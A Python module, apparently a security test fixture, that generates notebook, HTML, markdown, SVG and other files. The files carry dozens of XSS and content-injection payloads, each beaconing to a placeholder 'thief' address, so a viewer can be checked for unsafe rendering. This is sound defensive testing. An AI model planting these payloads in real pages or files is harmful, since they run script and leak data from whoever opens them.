"""Files that try to act on their readers, all towards one address."""

import base64
import json
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from typing import Any

PATH = "folder/inner/file"
"""Where the files lie in their share, without an ending."""

SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" '
    'onload="fetch(\'{thief}/svg-onload\')"><script>fetch("{thief}/svg-script")'
    '</script><image href="{thief}/svg-image" width="9" height="9"/>'
    '<image xlink:href="{thief}/svg-xlink" width="9" height="9"/>'
    "<style>@import url({thief}/svg-import);"
    "rect{{fill:url({thief}/svg-fill#a)}}</style>"
    '<use href="{thief}/svg-use#a"/><rect width="9" height="9"/>'
    '<foreignObject width="9" height="9">'
    '<img xmlns="http://www.w3.org/1999/xhtml" src="{thief}/svg-foreign"/>'
    "</foreignObject></svg>"
)
SNIPPETS: Mapping[str, str] = {
    "script": "<script>fetch('{thief}/script')</script>",
    "script of another host": "<script src='{thief}/script-src'></script>",
    "split script": "<scr<script>ipt>fetch('{thief}/split')</scr</script>ipt>",
    "handler": "<img src=x onerror=\"fetch('{thief}/onerror')\">",
    "handler with a slash": "<b/onmouseover=fetch('{thief}/slash')//>x</b>",
    "handler in details": "<details open ontoggle=fetch('{thief}/toggle')>x</details>",
    "autofocus": "<input autofocus onfocus=fetch('{thief}/focus')>",
    "picture": "<img src='{thief}/img'>",
    "picture of a set": "<img srcset='{thief}/srcset 1x'>",
    "picture without a scheme": "<img src='//{host}/schemeless'>",
    "picture with backslashes": "<img src='\\\\{host}\\backslash'>",
    "background": "<table background='{thief}/background'><tr><td>x</table>",
    "style": "<b style='background:url({thief}/style-url)'>x</b>",
    "style of a colour": "<b style='color:url({thief}/colour)'>x</b>",
    "style in disguise": "<b style='background:u\\72l({thief}/style-escape)'>x</b>",
    "style of a page": "<style>body{{background:url({thief}/style)}}</style>",
    "import": "<style>@import '{thief}/import';</style>",
    "sheet": "<link rel=stylesheet href='{thief}/sheet'>",
    "prefetch": "<link rel=prefetch href='{thief}/prefetch'>"
    "<link rel=dns-prefetch href='{thief}'><link rel=preconnect href='{thief}'>",
    "frame": "<iframe src='{thief}/frame'></iframe>",
    "frame's document": "<iframe srcdoc=\"<script>fetch('{thief}/doc')</script>\">"
    "</iframe>",
    "object": "<object data='{thief}/object'></object><embed src='{thief}/embed'>",
    "form": "<form action='{thief}/form' id=f><input type=image src='{thief}/image'>"
    "</form><button form=f formaction='{thief}/button'>Log in</button>",
    "refresh": "<meta http-equiv=refresh content='0;url={thief}/refresh'>",
    "base": "<base href='{thief}/base/'><a href='x'>x</a><img src='y'>",
    "media": "<video src='{thief}/video' poster='{thief}/poster' autoplay></video>"
    "<audio src='{thief}/audio' autoplay></audio>",
    "script link": "<a href='javascript:fetch(`{thief}/link`)'>x</a>",
    "script link with a tab": "<a href='java\tscript:fetch(1)'>x</a>",
    "script link in entities": "<a href='&#106;avascript&colon;fetch(1)'>x</a>",
    "data link": "<a href='data:text/html,<script>fetch(1)</script>'>x</a>",
    "data picture": "<img src='data:text/html,<script>fetch(1)</script>'>",
    "ping": "<a href='https://example.org' ping='{thief}/ping'>x</a>",
    "our own host": "<a href='/hub/logout'>x</a><a href='../../../../hub'>y</a>"
    "<img src='/hub/logout'>",
    "template": "<template><img src='{thief}/template'></template>",
    "noscript": "<noscript><p title='</noscript><img src={thief}/noscript>'>",
    "mixed namespaces": "<svg></p><style><a title='</style><img src={thief}/mix "
    "onerror=fetch(1)>'>",
    "formula in formulas": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src={thief}/mglyph onerror=fetch(1)&gt;'>",
    "comment": "<!--><img src='{thief}/comment'>-->",
    "drawing": SVG,
    "drawing as a picture": "<img src='data:image/svg+xml;base64,{svg}'>",
    "our classes": "<p class=problem id=content>x</p><div id=cell-1>y</div>",
    "markdown link": "[x](javascript:fetch%281%29) [y](<data:text/html,z>)",
    "markdown picture": "![x]({thief}/markdown) ![y](//{host}/markdown2)",
    "markdown reference": "![x][r]\n\n[r]: {thief}/reference",
    "markdown in markup": "<div title='\n\n$x$ `y` [z]({thief}/inside)\n\n'>"
    "<img src=x onerror=fetch(1)>",
    "formula in a title": '<b title="\n\n$\\text{{" onmouseover=fetch(1) x="}}$\n\n">',
    "autolink": "<javascript:fetch(1)> <{thief}/autolink>",
    "formula": "$\\text{{<script>fetch(1)</script>}}$",
    "formula with a link": "$\\href{{javascript:fetch(1)}}{{x}}$",
    "formula with style": "$\\style{{background:url({thief}/tex)}}{{x}}$",
    "long formula": "$$\n\\begin{{matrix}}<img src={thief}/matrix>\\end{{matrix}}\n$$",
    "places": "<b>&#xFDD0;0&#xFDD1;\ufdd00\ufdd1</b> `x` <i title='&#xFDD0;0&#xFDD1;'>",
    "fence": '```<script>"onload=fetch(1)\n</code></pre><script>fetch(1)</script>\n```',
    "heading": '# <img src={thief}/heading onerror=fetch(1)> "onload=fetch(1)',
    "terminal": "\x1b]8;;{thief}/osc\x07x\x1b]8;;\x07\x1b[31m<script>\x1b[0m",
}
SPARK = "application/vnd.cygnet.spark+json"
MIME_TYPES = (
    "text/html",
    "text/markdown",
    "text/latex",
    "text/plain",
    "image/svg+xml",
    "image/png",
    "application/json",
    "application/javascript",
    SPARK,
)


@dataclass(frozen=True, slots=True)
class Attack:
    """A file that attacks."""

    name: str
    path: str
    data: bytes


def snippets(thief: str) -> Iterator[tuple[str, str]]:
    """Give the names and the texts of what attacks, towards an address."""
    host = thief.removeprefix("http://")
    svg = base64.b64encode(SVG.format(thief=thief).encode()).decode()
    for name, text in SNIPPETS.items():
        yield name, text.format(thief=thief, host=host, svg=svg)


def attacks(name: str, text: str) -> Iterator[Attack]:
    """Give the files that attack by a text, in each place that a file has."""
    yield Attack(f"{name} in a notebook", f"{PATH}.ipynb", notebook(text))
    yield Attack(f"{name} in an old notebook", f"{PATH}.ipynb", old(text))
    for ending in (".md", ".html", ".svg", ".csv", ".py", ".txt", ".json", ""):
        yield Attack(f"{name} in {ending}", f"{PATH}{ending}", text.encode())


def notebook(text: str) -> bytes:
    """Give a notebook that has a text wherever it can have one."""
    outputs: list[dict[str, Any]] = [
        {"output_type": "stream", "name": text, "text": text},
        {
            "output_type": "error",
            "ename": text,
            "evalue": text,
            "traceback": [text],
        },
        *(
            {"output_type": "display_data", "data": {it: text}, "metadata": {it: text}}
            for it in (*MIME_TYPES, text)
        ),
        {"output_type": "display_data", "data": {SPARK: panel(text)}},
        {"output_type": text},
    ]
    cells = [
        {
            "cell_type": "markdown",
            "source": text,
            "attachments": {text: {"image/png": text, text: text}},
        },
        {"cell_type": "code", "source": text, "outputs": outputs, "id": text},
        {"cell_type": "raw", "source": text, "metadata": {"format": text}},
        {"cell_type": text, "source": text},
    ]
    spec = {"display_name": text, "language": text, "name": text}
    metadata = {"kernelspec": spec, "language_info": {"name": text}, "title": text}
    whole = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": cells}
    return json.dumps(whole).encode()


def old(text: str) -> bytes:
    """Give such a notebook of format 3."""
    forms = ("text", "html", "svg", "png", "jpeg", "latex", "json", "javascript")
    outputs = [
        {"output_type": "pyout", **dict.fromkeys(forms[:1], text)},
        {"output_type": "stream", "stream": text, "text": [text]},
        {"output_type": "pyerr", "ename": text, "evalue": text, "traceback": [text]},
        *({"output_type": "display_data", it: text} for it in forms),
    ]
    cells = [
        {"cell_type": "heading", "level": 2, "source": text},
        {"cell_type": "code", "input": text, "language": text, "outputs": outputs},
        {"cell_type": "markdown", "source": [text]},
    ]
    return json.dumps({"nbformat": 3, "worksheets": [{"cells": cells}]}).encode()


def panel(text: str) -> dict[str, Any]:
    """Give a saved Spark panel whose texts are all the same."""
    tasks = {"total": 4, "active": 0, "succeeded": 3, "failed": 1, "killed": 0}
    tasks["skipped"] = 2
    stages = {"total": 2, "pending": 0, "active": 0, "succeeded": 1, "failed": 0}
    stages["skipped"] = 1
    times = {"started_ms": 1_000, "ended_ms": 3_500}
    stage = {"stage_id": 7, "attempt": 1, "name": text, "state": "succeeded", **times}
    job = {"job_id": 5, "name": text, "state": "failed", "error": text, **times}
    job |= {"stages": stages, "tasks": tasks, "stages_omitted": 1}
    job["stage_list"] = [{**stage, "tasks": tasks}]
    jobs = {"total": 2, "active": 0, "succeeded": 1, "failed": 1, "stopped": 0}
    cell = {"cell_id": text, "execution_id": text, "state": "failed", **times}
    cell |= {"jobs": jobs, "stages": stages, "tasks": tasks, "job_list": [job]}
    application = {"id": text, "name": text, "master": text, "spark_version": text}
    return {
        "version": 1,
        "application": {**application, "started_ms": 0, "state": "stopped"},
        "executors": {"count": 1, "cores": 8, "tasks_active": 0},
        "cell": {**cell, "jobs_omitted": 1},
        "saved_ms": 4_000,
    }
